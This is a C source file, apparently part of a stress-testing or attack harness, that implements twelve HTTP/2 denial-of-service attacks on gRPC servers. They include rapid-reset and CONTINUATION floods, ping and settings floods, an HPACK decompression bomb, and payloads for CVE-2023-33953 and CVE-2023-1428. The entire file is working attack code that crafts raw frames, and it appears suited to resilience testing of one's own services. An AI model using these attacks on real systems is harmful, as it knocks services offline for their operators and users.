#include "lib/attacks.h"

#include <string.h>

/* Attacks with the frames of HTTP/2, below the calls of gRPC. */

/* Sends frames of `make` on one connection after another, until the time is over. */
static void flood(attacker *a, int (*make)(attacker *a, h2_client *client, size_t number)) {
  h2_client client;
  int is_open = attacks_open(a, &client);
  size_t before = client.sent;
  for (size_t i = 0; is_open && make(a, &client, i); i++) {
    size_t sent = client.sent - before;
    before = client.sent;
    if (!attacks_spend(a, sent))
      break;
  }
  h2_close(&client);
}

static int reset(h2_client *client) {
  return h2_frame(client, H2_RESET, 0, client->stream, hv_span_of("\0\0\0\10", 4));
}

static int open_and_reset(attacker *a, h2_client *client, size_t number) {
  (void)a;
  return h2_begin(client, number % 2 ? "Call" : "Bulk") && reset(client);
}

/* The same with headers that HPACK keeps, so that each takes a byte: 29 bytes open a stream and reset it. */
static int open_small_and_reset(attacker *a, h2_client *client, size_t number) {
  enum { FIELDS = 7, NEWEST = 62 };
  hv_buf block;
  hv_buf_init(&block, &a->key.mem, 4096);
  if (number == 0)
    h2_headers_kept(client, "Call", &block);
  for (uint8_t i = 0; number && i < FIELDS; i++) {
    uint8_t indexed = (uint8_t)(0x80 | (NEWEST + FIELDS - 1 - i));
    hv_buf_append(&block, &indexed, 1);
  }
  client->stream += 2;
  int sent = h2_frame(client, H2_HEADERS, H2_END_HEADERS, client->stream, hv_span_of(block.data, block.size)) && reset(client);
  hv_buf_fini(&block);
  return sent;
}

/* Methods that no node has: nobody in the node waits for such a call. */
static int open_unknown_and_reset(attacker *a, h2_client *client, size_t number) {
  (void)a, (void)number;
  return h2_begin(client, "Nobody") && reset(client);
}

static int one_ping(attacker *a, h2_client *client, size_t number) {
  (void)a;
  return h2_frame(client, H2_PING, 0, 0, hv_span_of(&number, 8));
}

static int one_setting(attacker *a, h2_client *client, size_t number) {
  uint8_t setting[6 * 50];
  (void)a;
  for (int i = 0; i < 50; i++)
    memcpy(setting + 6 * i, number % 2 ? "\0\4\0\0\0\0" : "\0\4\0\0\377\377", 6);
  return h2_frame(client, H2_SETTINGS, 0, 0, hv_span_of(setting, sizeof setting));
}

/* Updates of windows, priorities and empty data on a call that does not end. */
static int small_frame(attacker *a, h2_client *client, size_t number) {
  (void)a;
  if (number == 0)
    return h2_begin(client, "Bulk");
  switch (number % 3) {
  case 0:
    return h2_frame(client, H2_WINDOW, 0, client->stream, hv_span_of("\0\0\0\1", 4));
  case 1:
    return h2_frame(client, H2_PRIORITY, 0, client->stream, hv_span_of("\0\0\0\0\20", 5));
  default:
    return h2_frame(client, H2_DATA, 0, client->stream, hv_span_of("", 0));
  }
}

/* HEADERS that never end. */
static int one_continuation(attacker *a, h2_client *client, size_t number) {
  uint8_t block[2048];
  hv_buf headers;
  hv_buf_init(&headers, &a->key.mem, sizeof block);
  if (number == 0) {
    h2_headers(client, "Call", &headers);
    client->stream += 2;
  }
  for (int i = 0; i < 4; i++)
    h2_header(&headers, "x-more", "of the same, again and again");
  int sent = h2_frame(client, number ? H2_CONTINUATION : H2_HEADERS, 0, client->stream, hv_span_of(headers.data, headers.size));
  hv_buf_fini(&headers);
  return sent;
}

/* HEADERS that stop in the middle, on many connections. */
static void half_headers(attacker *a) {
  h2_client clients[16];
  for (int i = 0; i < 16; i++)
    if (attacks_open(a, &clients[i]))
      one_continuation(a, &clients[i], 0);
  attacks_pause(a, 2000);
  for (int i = 0; i < 16; i++)
    h2_close(&clients[i]);
}

/* One header of 3 KiB is put into HPACK's table, and then named by one byte each: a block of 16 KiB means 48 MiB. */
static int hpack_bomb(attacker *a, h2_client *client, size_t number) {
  static uint8_t const indexed = 0x80 | 62;
  uint8_t value[3000];
  uint8_t head[] = {0x40, 6, 'x', '-', 'b', 'o', 'm', 'b', 0x7f, 0, 0};
  hv_buf block;
  hv_buf_init(&block, &a->key.mem, 1 << 15);
  h2_headers(client, "Call", &block);
  if (number == 0) {
    memset(value, 'x', sizeof value);
    head[9] = (uint8_t)(0x80 | ((sizeof value - 127) & 0x7f));
    head[10] = (uint8_t)((sizeof value - 127) >> 7);
    hv_buf_append(&block, head, sizeof head);
    hv_buf_append(&block, value, sizeof value);
  }
  while (block.size < H2_FRAME_MAX - 1)
    hv_buf_append(&block, &indexed, 1);
  client->stream += 2;
  int sent = h2_frame(client, H2_HEADERS, H2_END_HEADERS, client->stream, hv_span_of(block.data, block.size));
  hv_buf_fini(&block);
  return sent;
}

/* A number in HPACK that is padded without an end, and a text of a length that never comes (CVE-2023-33953). */
static int padded_number(attacker *a, h2_client *client, size_t number) {
  uint8_t block[4096] = {0, 0x7f};
  (void)a;
  memset(block + 2, 0x80, sizeof block - 2);
  if (number == 0)
    client->stream += 2;
  return h2_frame(client, number ? H2_CONTINUATION : H2_HEADERS, 0, client->stream, hv_span_of(block, sizeof block));
}

/* Metadata beyond gRPC's limit, with each of the fields that aborted an older version (CVE-2023-1428). */
static int huge_metadata(attacker *a, h2_client *client, size_t number) {
  static const char *const odd[][2] = {
      {"te", "x"}, {":scheme", "ftp"}, {"grpclb_client_stats", "x"}, {"grpc-timeout", "9999999999H"}};
  char value[128];
  hv_buf block;
  memset(value, 'y', sizeof value - 1);
  value[sizeof value - 1] = 0;
  hv_buf_init(&block, &a->key.mem, 1 << 15);
  h2_headers(client, "Call", &block);
  h2_header(&block, odd[number % 4][0], odd[number % 4][1]);
  while (block.size < H2_FRAME_MAX - 200)
    h2_header(&block, "x-meta", value);
  client->stream += 2;
  int sent = h2_frame(client, H2_HEADERS, H2_END_HEADERS | (int)(number % 2), client->stream, hv_span_of(block.data, block.size));
  hv_buf_fini(&block);
  return sent;
}

/* Frames of any kind, flags, stream and content. */
static int any_frame(attacker *a, h2_client *client, size_t number) {
  uint8_t body[64];
  (void)number;
  for (size_t i = 0; i < sizeof body; i++)
    body[i] = (uint8_t)attacks_random(a, 256);
  if (attacks_random(a, 4) == 0 && !h2_begin(client, "Call"))
    return 0;
  return h2_frame(client, (int)attacks_random(a, 12), (int)attacks_random(a, 256), (uint32_t)attacks_random(a, 8),
                  hv_span_of(body, attacks_random(a, sizeof body)));
}

#define FLOOD(name, make)                                                                                                          \
  static void name(attacker *a) {                                                                                                  \
    flood(a, make);                                                                                                                \
  }
FLOOD(rapid_reset, open_and_reset)
FLOOD(small_resets, open_small_and_reset)
FLOOD(unknown_methods, open_unknown_and_reset)
FLOOD(pings, one_ping)
FLOOD(settings, one_setting)
FLOOD(small_frames, small_frame)
FLOOD(continuations, one_continuation)
FLOOD(hpack_bombs, hpack_bomb)
FLOOD(padded_numbers, padded_number)
FLOOD(huge_headers, huge_metadata)
FLOOD(any_frames, any_frame)

const attack attacks_of_frames[] = {
    {"rapid-reset", rapid_reset},
    {"small-resets", small_resets},
    {"unknown-methods", unknown_methods},
    {"pings", pings},
    {"settings", settings},
    {"small-frames", small_frames},
    {"continuations", continuations},
    {"half-headers", half_headers},
    {"hpack-bombs", hpack_bombs},
    {"padded-numbers", padded_numbers},
    {"huge-metadata", huge_headers},
    {"any-frames", any_frames},
    {NULL, NULL},
};
